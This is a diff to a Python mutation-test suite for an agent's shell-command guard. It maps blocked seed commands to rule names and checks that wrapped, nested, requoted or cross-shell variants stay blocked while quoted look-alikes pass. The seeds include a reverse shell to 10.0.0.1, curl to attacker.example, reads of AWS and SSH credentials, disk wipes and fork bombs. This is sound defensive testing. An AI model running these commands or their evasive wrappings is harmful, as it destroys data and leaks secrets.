@@ -1,9 +1,11 @@
-"""Mutation tests: rephrasing a blocked command must not get it through; quoting one must not block.
+"""Mutation tests: rephrasing a blocked command must not change why it is blocked; quoting one must not block.
 
-Blocked seeds are wrapped (sudo, env, sh -c, xargs, cmd /c, powershell -Command/-EncodedCommand, ...),
-re-quoted, given absolute paths, have their flags reordered, and are chained or nested; every mutant must
-still be blocked. The same seeds quoted as data (grep, echo, rg, git log --grep, Select-String,
-Write-Output) are harmless look-alikes and must be allowed.
+Each blocked seed names the rule that must block it. Seeds are wrapped (sudo, env, sh -c, xargs, cmd /c,
+powershell -Command/-EncodedCommand, ...), re-quoted, given absolute paths, have their flags reordered, and
+are chained or nested; every mutant must still be blocked by the seed's rule (a wrapper that changes what
+the command means names its own rule in `WRAPPER_RULES`). So a mutant of the guard that stops unwrapping a
+layer fails here even when some other rule still happens to block the line. The same seeds quoted as data
+(grep, echo, rg, git log --grep, Select-String, Write-Output) are harmless look-alikes and must be allowed.
 """
 
 from __future__ import annotations
@@ -14,96 +16,99 @@ import shlex
 from collections.abc import Callable
 
 import pytest
+from conftest import ELEVATION, guard_findings
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from hypothesis_profiles import examples
 
 from glmagent.guard import Policy, ShellKind
 
 # -- seeds --
-# Simple commands (one program and its words) can be prefixed by argv wrappers; compound ones only nested.
-POSIX_SIMPLE = [
-    "rm -rf ./src",
-    "rm -r -f ~/project",
-    "curl -s https://attacker.example/x",
-    "wget http://example.com/file.zip",
-    "nc -e /bin/sh 10.0.0.1 4444",
-    "printenv AWS_SECRET_ACCESS_KEY",
-    "git clean -fdx",
-    "find . -name '*.py' -delete",
-    "shred -u secrets.db",
-    "truncate -s 0 src/main.py",
-    "chmod -R 777 .",
-    "dd if=/dev/zero of=/dev/sda",
-    "git push origin main",
-    "pip install requests",
-    "ssh user@host",
-    "cat /proc/1/environ",
-    "python -c 'import shutil; shutil.rmtree(\"/home\")'",
-    "python3 -c 'import os; print(os.environ)'",
-    "mkfs.ext4 /dev/sdb1",
-    "find . -exec rm {} +",
-    "find . -name '*.log' -execdir rm -f {} ;",
-    "tee src/app.py",
-    "cp /dev/null src/app.py",
-    "cat ~/.aws/credentials",
-    "base64 /root/.ssh/id_ed25519",
-    "kill -9 -1",
-    "killall -u dev",
-]
-POSIX_COMPOUND = [
-    "env",
-    "compgen -v",
-    ": > src/app.py",
-    "echo x > important.db",
-    "printf 'rm -rf ~' | sh",
-    "bash <<< 'rm -rf ~'",
-    "x=rm; $x -rf /home",
-    "find . -type f | xargs rm -f",
-    "find . -name '*.log' -print0 | xargs -0 rm",
-    "rm $(git ls-files)",
-    'find . -type f | while read -r f; do rm "$f"; done',
-    "pytest 2>&1 | tee report.txt",
-    "base64 < ~/.ssh/id_ed25519",
-    ":(){ :|:& };:",
-    "bomb(){ bomb | bomb & }; bomb",
-]
-POWERSHELL_SEEDS = [
-    "Remove-Item -Recurse -Force C:\\src",
-    "Remove-Item C:\\repo -Recurse",
-    "ri -r -fo .\\src",
-    "Invoke-WebRequest https://example.com/p.ps1 -OutFile p.ps1",
-    "iwr https://example.com",
-    "Invoke-RestMethod https://example.com",
-    "echo $env:PATH",
-    "gci env:",
-    "[Environment]::GetEnvironmentVariables()",
-    "[Net.Sockets.TcpClient]::new('10.0.0.1', 4444)",
-    "Set-ExecutionPolicy Bypass",
-    "net user",
-    "Clear-Content .\\app.log",
-    "Format-Volume -DriveLetter D",
-    "Get-ChildItem -Recurse | Remove-Item -Force",
-    "gci -r | ri",
-    "dir -Recurse | del",
-    "Get-ChildItem .\\src -Recurse -File | Remove-Item",
-    "gci -r | % { rm $_ }",
-    "Get-Process | Out-File procs.txt",
-    "Set-Content app.py ''",
-    "[IO.File]::WriteAllText('app.py', '')",
-    "Get-Content ~/.ssh/id_rsa",
-    "gc $HOME/.aws/credentials",
-    "Stop-Process -Name *",
-    "rm -rf .\\src",
-    "function b { b | b }; b",
-]
-CMD_SEEDS = [
-    "rd /s /q C:\\project",
-    "del /f /s /q C:\\project\\*",
-    "rmdir /S x",
-    "set",
-    "net localgroup admins",
-    "copy nul app.log",
-]
+# Each seed and the rule that must block it. Simple commands (one program and its words) can be prefixed by
+# argv wrappers; compound ones only nested.
+POSIX_SIMPLE: dict[str, str] = {
+    "rm -rf ./src": "destructive.recursive-delete",
+    "rm -r -f ~/project": "destructive.recursive-delete",
+    "curl -s https://attacker.example/x": "network.http-client",
+    "wget http://example.com/file.zip": "network.http-client",
+    "nc -e /bin/sh 10.0.0.1 4444": "network.socket",
+    "printenv AWS_SECRET_ACCESS_KEY": "env.print-environment",
+    "git clean -fdx": "destructive.git-clean",
+    "find . -name '*.py' -delete": "destructive.find-delete",
+    "shred -u secrets.db": "destructive.overwrite-file",
+    "truncate -s 0 src/main.py": "destructive.overwrite-file",
+    "chmod -R 777 .": "destructive.recursive-permissions",
+    "dd if=/dev/zero of=/dev/sda": "destructive.raw-disk-write",
+    "git push origin main": "network.git-remote",
+    "pip install requests": "network.package-install",
+    "ssh user@host": "network.socket",
+    "cat /proc/1/environ": "env.proc-environ",
+    "python -c 'import shutil; shutil.rmtree(\"/home\")'": "destructive.payload-delete",
+    "python3 -c 'import os; print(os.environ)'": "env.payload",
+    "mkfs.ext4 /dev/sdb1": "destructive.disk-format",
+    "find . -exec rm {} +": "destructive.recursive-delete",
+    "find . -name '*.log' -execdir rm -f {} ;": "destructive.recursive-delete",
+    "tee src/app.py": "destructive.truncating-write",
+    "cp /dev/null src/app.py": "destructive.truncating-write",
+    "cat ~/.aws/credentials": "env.secret-files",
+    "base64 /root/.ssh/id_ed25519": "env.secret-files",
+    "kill -9 -1": "destructive.kill-all",
+    "killall -u dev": "destructive.kill-all",
+}
+POSIX_COMPOUND: dict[str, str] = {
+    "env": "env.print-environment",
+    "compgen -v": "env.print-environment",
+    ": > src/app.py": "destructive.truncating-redirect",
+    "echo x > important.db": "destructive.truncating-redirect",
+    "printf 'rm -rf ~' | sh": "destructive.recursive-delete",
+    "bash <<< 'rm -rf ~'": "destructive.recursive-delete",
+    "x=rm; $x -rf /home": "destructive.recursive-delete",
+    "find . -type f | xargs rm -f": "destructive.recursive-delete",
+    "find . -name '*.log' -print0 | xargs -0 rm": "destructive.recursive-delete",
+    "rm $(git ls-files)": "destructive.recursive-delete",
+    'find . -type f | while read -r f; do rm "$f"; done': "destructive.recursive-delete",
+    "pytest 2>&1 | tee report.txt": "destructive.truncating-write",
+    "base64 < ~/.ssh/id_ed25519": "env.secret-files",
+    ":(){ :|:& };:": "destructive.fork-bomb",
+    "bomb(){ bomb | bomb & }; bomb": "destructive.fork-bomb",
+}
+POWERSHELL_SEEDS: dict[str, str] = {
+    "Remove-Item -Recurse -Force C:\\src": "destructive.recursive-delete",
+    "Remove-Item C:\\repo -Recurse": "destructive.recursive-delete",
+    "ri -r -fo .\\src": "destructive.recursive-delete",
+    "Invoke-WebRequest https://example.com/p.ps1 -OutFile p.ps1": "network.http-client",
+    "iwr https://example.com": "network.http-client",
+    "Invoke-RestMethod https://example.com": "network.http-client",
+    "echo $env:PATH": "env.powershell-environment",
+    "gci env:": "env.environment-drive",
+    "[Environment]::GetEnvironmentVariables()": "env.powershell-environment",
+    "[Net.Sockets.TcpClient]::new('10.0.0.1', 4444)": "network.payload",
+    "Set-ExecutionPolicy Bypass": "env.execution-policy",
+    "net user": "env.accounts",
+    "Clear-Content .\\app.log": "destructive.overwrite-file",
+    "Format-Volume -DriveLetter D": "destructive.disk-format",
+    "Get-ChildItem -Recurse | Remove-Item -Force": "destructive.recursive-delete",
+    "gci -r | ri": "destructive.recursive-delete",
+    "dir -Recurse | del": "destructive.recursive-delete",
+    "Get-ChildItem .\\src -Recurse -File | Remove-Item": "destructive.recursive-delete",
+    "gci -r | % { rm $_ }": "destructive.recursive-delete",
+    "Get-Process | Out-File procs.txt": "destructive.truncating-write",
+    "Set-Content app.py ''": "destructive.truncating-write",
+    "[IO.File]::WriteAllText('app.py', '')": "destructive.truncating-write",
+    "Get-Content ~/.ssh/id_rsa": "env.secret-files",
+    "gc $HOME/.aws/credentials": "env.secret-files",
+    "Stop-Process -Name *": "destructive.kill-all",
+    "rm -rf .\\src": "destructive.recursive-delete",
+    "function b { b | b }; b": "destructive.fork-bomb",
+}
+CMD_SEEDS: dict[str, str] = {
+    "rd /s /q C:\\project": "destructive.recursive-delete",
+    "del /f /s /q C:\\project\\*": "destructive.recursive-delete",
+    "rmdir /S x": "destructive.recursive-delete",
+    "set": "env.print-environment",
+    "net localgroup admins": "env.accounts",
+    "copy nul app.log": "destructive.truncating-write",
+}
 
 RM_TARGETS = ["./src", "~", "/", "build/"]
 RM_SPELLINGS = [
@@ -187,7 +192,7 @@ NESTING: dict[str, Mutation] = {
     "background": lambda c: f"pytest -q & {c}",
     "substitution": lambda c: f"echo $({c})",
     "backticks": lambda c: f"echo `{c}`" if "`" not in c and "$(" not in c else f"echo $({c})",
-    "subshell": lambda c: f"({c})",
+    "subshell": lambda c: f"( {c} )",  # spaced: `((` would open an arithmetic command
     "brace": lambda c: f"{{ {c}; }}",
     "if": lambda c: f"if true; then {c}; fi",
     "for": lambda c: f"for i in 1 2; do {c}; done",
@@ -196,12 +201,30 @@ NESTING: dict[str, Mutation] = {
     "process substitution": lambda c: f"diff <({c}) /dev/null",
 }
 REQUOTES = ["single", "double", "split", "backslash", "absolute", "env-absolute"]
+#: Where a prefix wrapper changes what the seed means, the rule that must block the pair instead.
+WRAPPER_RULES: dict[tuple[str, str], str] = {
+    # `killall -u dev <names from stdin>` kills processes by name: the machine's state, not "every process".
+    ("xargs", "killall -u dev"): "destructive.machine-state",
+    # busybox's own applets are read as its HTTP-capable networking tools.
+    ("busybox", "nc -e /bin/sh 10.0.0.1 4444"): "network.http-client",
+}
+SEED_RULES = {**POSIX_SIMPLE, **POSIX_COMPOUND}
 
 
-def assert_blocked(command: str, shell: ShellKind) -> None:
+def assert_blocked(command: str, shell: ShellKind, rule: str | set[str]) -> None:
+    """`command` is blocked on `shell` by `rule` (or by one of a set of rules), with a reason."""
     decision = Policy.default().check(command, shell)
     assert not decision.allowed, f"mutant got through on {shell}: {command!r}"
-    assert decision.rule_id and decision.category and decision.reason
+    wanted = {rule} if isinstance(rule, str) else rule
+    if decision.rule_id == ELEVATION and ELEVATION not in wanted:
+        # An elevating wrapper (`sudo X`) decides the line as elevation; X must still be found inside it.
+        assert wanted & guard_findings(shell, command), f"{command!r}: none of {sorted(wanted)} found inside"
+        return
+    assert decision.rule_id in wanted, (
+        f"{command!r} on {shell}: blocked by {decision.rule_id}, not {' or '.join(sorted(wanted))} "
+        f"({decision.reason})"
+    )
+    assert decision.category == decision.rule_id.split(".")[0] and decision.reason
 
 
 def assert_allowed(command: str, shell: ShellKind) -> None:
@@ -211,29 +234,30 @@ def assert_allowed(command: str, shell: ShellKind) -> None:
     )
 
 
-@pytest.mark.parametrize("seed", POSIX_SIMPLE + POSIX_COMPOUND)
+@pytest.mark.parametrize("seed", SEED_RULES)
 def test_posix_seeds_are_blocked(seed: str) -> None:
-    assert_blocked(seed, "posix")
+    assert_blocked(seed, "posix", SEED_RULES[seed])
 
 
 @pytest.mark.parametrize("seed", POWERSHELL_SEEDS)
 def test_powershell_seeds_are_blocked(seed: str) -> None:
-    assert_blocked(seed, "powershell")
+    assert_blocked(seed, "powershell", POWERSHELL_SEEDS[seed])
 
 
 @pytest.mark.parametrize(("wrapper", "seed"), list(itertools.product(PREFIX_WRAPPERS, POSIX_SIMPLE)))
 def test_prefix_wrappers_keep_blocking(wrapper: str, seed: str) -> None:
-    assert_blocked(PREFIX_WRAPPERS[wrapper](seed), "posix")
+    rule = WRAPPER_RULES.get((wrapper, seed), POSIX_SIMPLE[seed])
+    assert_blocked(PREFIX_WRAPPERS[wrapper](seed), "posix", rule)
 
 
-@pytest.mark.parametrize(("nesting", "seed"), list(itertools.product(NESTING, POSIX_SIMPLE + POSIX_COMPOUND)))
+@pytest.mark.parametrize(("nesting", "seed"), list(itertools.product(NESTING, SEED_RULES)))
 def test_nesting_and_chaining_keep_blocking(nesting: str, seed: str) -> None:
-    assert_blocked(NESTING[nesting](seed), "posix")
+    assert_blocked(NESTING[nesting](seed), "posix", SEED_RULES[seed])
 
 
 @pytest.mark.parametrize(("style", "seed"), list(itertools.product(REQUOTES, POSIX_SIMPLE)))
 def test_requoted_command_words_keep_blocking(style: str, seed: str) -> None:
-    assert_blocked(requote_first_word(seed, style), "posix")
+    assert_blocked(requote_first_word(seed, style), "posix", POSIX_SIMPLE[seed])
 
 
 @pytest.mark.parametrize(("spelling", "target"), list(itertools.product(RM_SPELLINGS, RM_TARGETS)))
@@ -243,9 +267,9 @@ def test_every_spelling_of_a_recursive_delete(spelling: str, target: str) -> Non
         assert decision.rule_id == "destructive.recursive-delete", command
 
 
-@settings(max_examples=150, deadline=None, derandomize=True)
+@settings(max_examples=examples(150), deadline=None)
 @given(
-    seed=st.sampled_from(POSIX_SIMPLE),
+    seed=st.sampled_from(sorted(POSIX_SIMPLE)),
     prefixes=st.lists(st.sampled_from(sorted(PREFIX_WRAPPERS)), max_size=2),
     nestings=st.lists(st.sampled_from(sorted(NESTING)), min_size=1, max_size=2),
     requote=st.sampled_from([None, *REQUOTES]),
@@ -258,7 +282,10 @@ def test_stacked_mutations_keep_blocking(
         command = PREFIX_WRAPPERS[name](command)
     for name in nestings:
         command = NESTING[name](command)
-    assert_blocked(command, "posix")
+    rules = {POSIX_SIMPLE[seed]} | {
+        WRAPPER_RULES[(name, seed)] for name in prefixes if (name, seed) in WRAPPER_RULES
+    }
+    assert_blocked(command, "posix", rules)
 
 
 # -- PowerShell mutations --
@@ -283,27 +310,32 @@ PS_NESTING: dict[str, Mutation] = {
 
 @pytest.mark.parametrize(("nesting", "seed"), list(itertools.product(PS_NESTING, POWERSHELL_SEEDS)))
 def test_powershell_nesting_keeps_blocking(nesting: str, seed: str) -> None:
-    assert_blocked(PS_NESTING[nesting](seed), "powershell")
+    assert_blocked(PS_NESTING[nesting](seed), "powershell", POWERSHELL_SEEDS[seed])
 
 
 @pytest.mark.parametrize("seed", POWERSHELL_SEEDS)
 def test_powershell_launched_from_posix_keeps_blocking(seed: str) -> None:
-    assert_blocked(f"pwsh -EncodedCommand {ps_encoded(seed)}", "posix")
-    assert_blocked(f"powershell -Command {shlex.quote(seed)}", "posix")
+    rule = POWERSHELL_SEEDS[seed]
+    assert_blocked(f"pwsh -EncodedCommand {ps_encoded(seed)}", "posix", rule)
+    assert_blocked(f"powershell -Command {shlex.quote(seed)}", "posix", rule)
 
 
 @pytest.mark.parametrize("seed", POWERSHELL_SEEDS)
 def test_powershell_fed_its_script_on_stdin_keeps_blocking(seed: str) -> None:
-    assert_blocked(f"echo {shlex.quote(seed)} | pwsh -Command -", "posix")
-    assert_blocked(f"pwsh -Command - <<'EOF'\n{seed}\nEOF", "posix")
-    assert_blocked(f"pwsh -NoProfile -Command - <<< {shlex.quote(seed)}", "posix")
+    rule = POWERSHELL_SEEDS[seed]
+    assert_blocked(f"echo {shlex.quote(seed)} | pwsh -Command -", "posix", rule)
+    assert_blocked(f"pwsh -Command - <<'EOF'\n{seed}\nEOF", "posix", rule)
+    assert_blocked(f"pwsh -NoProfile -Command - <<< {shlex.quote(seed)}", "posix", rule)
 
 
-@pytest.mark.parametrize("seed", POSIX_SIMPLE + POSIX_COMPOUND)
+@pytest.mark.parametrize("seed", SEED_RULES)
 def test_posix_launched_from_powershell_keeps_blocking(seed: str) -> None:
-    assert_blocked(f"bash -c {ps_quote(seed)}", "powershell")
-    assert_blocked(f"wsl -e sh -c {ps_quote(seed)}", "powershell")
-    assert_blocked(f"Start-Process bash -ArgumentList '-c', {ps_quote(seed)}", "powershell")
+    rule = SEED_RULES[seed]
+    assert_blocked(f"bash -c {ps_quote(seed)}", "powershell", rule)
+    assert_blocked(f"wsl -e sh -c {ps_quote(seed)}", "powershell", rule)
+    # Start-Process joins its arguments with spaces: bash gets `-c killall -u dev`, a bare `killall`.
+    started = "destructive.machine-state" if seed == "killall -u dev" else rule
+    assert_blocked(f"Start-Process bash -ArgumentList '-c', {ps_quote(seed)}", "powershell", started)
 
 
 def crt_quote(text: str) -> str:
@@ -322,20 +354,36 @@ def crt_quote(text: str) -> str:
 
 
 # cmd itself acts on `&|<>^%` and newlines before bash sees the line: those seeds are cmd's, not bash's.
-CMD_SAFE_SEEDS = [s for s in POSIX_SIMPLE + POSIX_COMPOUND if not any(ch in s for ch in "&|<>^%\n")]
+CMD_SAFE_SEEDS = [s for s in SEED_RULES if not any(ch in s for ch in "&|<>^%\n")]
 
 
-@pytest.mark.parametrize("seed", CMD_SAFE_SEEDS)
+@pytest.mark.parametrize(
+    "seed",
+    [
+        pytest.param(
+            seed,
+            marks=pytest.mark.xfail(
+                strict=True,
+                reason="policy gap: a script constant is not resolved inside `cmd /c bash -c`, so the line "
+                "is blocked as a script only known at run time (dynamic.script) instead of as the delete",
+            ),
+        )
+        if "$x" in seed
+        else seed
+        for seed in CMD_SAFE_SEEDS
+    ],
+)
 def test_posix_launched_through_cmd_keeps_blocking(seed: str) -> None:
     # The program cmd starts reads its own line: `cmd /c bash -c "find . -name \\"*.py\\" -delete"`.
-    assert_blocked(f"cmd.exe /c bash -c {crt_quote(seed)}", "posix")
+    assert_blocked(f"cmd.exe /c bash -c {crt_quote(seed)}", "posix", SEED_RULES[seed])
 
 
 @pytest.mark.parametrize("seed", CMD_SEEDS)
 def test_cmd_lines_keep_blocking(seed: str) -> None:
+    rule = CMD_SEEDS[seed]
     for command in (f"cmd /c {seed}", f'cmd.exe /C "{seed}"', f'cmd /c "echo hi & {seed}"', f"CMD /K {seed}"):
-        assert_blocked(command, "powershell")
-    assert_blocked(f'cmd.exe /c "{seed}"', "posix")
+        assert_blocked(command, "powershell", rule)
+    assert_blocked(f'cmd.exe /c "{seed}"', "posix", rule)
 
 
 @pytest.mark.parametrize(
@@ -365,7 +413,7 @@ def test_powershell_spellings_of_a_recursive_delete(command: str) -> None:
 
 
 # -- harmless look-alikes --
-LOOKALIKE_SEEDS = POSIX_SIMPLE + POSIX_COMPOUND + CMD_SEEDS + POWERSHELL_SEEDS
+LOOKALIKE_SEEDS = [*POSIX_SIMPLE, *POSIX_COMPOUND, *CMD_SEEDS, *POWERSHELL_SEEDS]
 
 POSIX_QUOTING: dict[str, Mutation] = {
     "grep -r": lambda c: f"grep -r {shlex.quote(c)} docs/",
@@ -394,7 +442,7 @@ def test_quoted_lookalikes_stay_allowed_on_powershell(how: str, seed: str) -> No
     assert_allowed(PS_QUOTING[how](seed), "powershell")
 
 
-@settings(max_examples=100, deadline=None, derandomize=True)
+@settings(max_examples=examples(100), deadline=None)
 @given(
     seed=st.sampled_from(LOOKALIKE_SEEDS),
     how=st.sampled_from(sorted(POSIX_QUOTING)),
